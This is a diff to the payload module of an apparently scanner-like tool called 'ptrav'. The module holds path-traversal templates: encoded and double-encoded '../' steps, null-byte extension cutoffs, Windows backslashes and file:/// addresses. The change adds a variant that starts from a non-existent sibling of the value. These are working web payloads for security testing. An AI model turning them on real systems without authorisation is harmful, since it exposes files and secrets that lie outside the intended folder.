@@ -1,7 +1,8 @@
 """Payloads of `ptrav`: ways to name a file outside of the folder that a value is looked up in.
 
 In a pattern `{up}` stands for enough steps up, `{file}` for the file's path without its first slash, `{value}` for the
-baseline's value, `{folder}` for the folder in it with its slash, `{suffix}` for its extension with the dot. What is sent
+baseline's value, `{folder}` for the folder in it with its slash, `{suffix}` for its extension with the dot, `{unlike}` for a
+letter where the value has one: no file but a folder, or what is not there, can be left again. What is sent
 through a query or a form is percent-encoded once on its way, so a percent sign here arrives as one after decoding.
 """
 
@@ -32,7 +33,7 @@ ALL_ENCODED = Step("relative, all encoded", "%2e%2e%2f", slash="%2f")
 DOUBLE_ENCODED = Step("relative, encoded twice", "..%252f", slash="%252f")
 ALL_DOUBLE_ENCODED = Step("relative, all encoded twice", "%252e%252e%252f", slash="%252f")
 IN_FOLDER = Step("relative, begins with the folder", "../", "{folder}{up}{file}")
-BEHIND_VALUE = Step("relative, begins with the value", "../", "{value}/{up}{file}")
+BEHIND_VALUE = Step("relative, begins with the value", "../", "{value}{unlike}/{up}{file}")
 SUFFIX_CUT = Step("relative, the extension cut off by a null byte", "../", "{up}{file}\0{suffix}")
 ADDRESS = Step("as an address", "", "file:///{file}")
 BACKSLASHED = Step("relative, Windows", "..\\", slash="\\")
@@ -89,6 +90,7 @@ def fill(step: Step, file: str, value: str, extra: int = 0) -> str:
         value=value,
         folder=folder + slash,
         suffix=dot + extension if dot else "",
+        unlike="x" if dot else "",
     )
 
 
